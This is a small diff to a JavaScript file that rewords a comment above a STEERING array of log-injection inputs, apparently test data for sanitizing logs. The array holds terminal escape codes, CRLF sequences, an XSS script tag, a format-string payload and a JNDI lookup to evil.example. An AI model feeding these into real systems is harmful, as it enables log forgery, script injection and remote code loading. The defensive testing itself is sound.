@@ -32,7 +32,7 @@ const SETTINGS = {
   MAX_REPLAY_BYTES: "2000",
 };
 
-/** Characters that end a line, begin another, or control the terminal of a reader of the log. */
+/** Characters that end a line, begin a new line, or control the terminal of a person who reads the log. */
 const STEERING = ["\u2028", "\u2029", "\u0085", "\u202e", "\u009b31m", "%0d%0a", "\\r\\n", "\x1b[2J\x1b[31m", "\t", "\x7f", "\ufeff", '"', "<script>alert(1)</script>", "${jndi:ldap://evil.example}", "%s%n%x"];
 
 /**
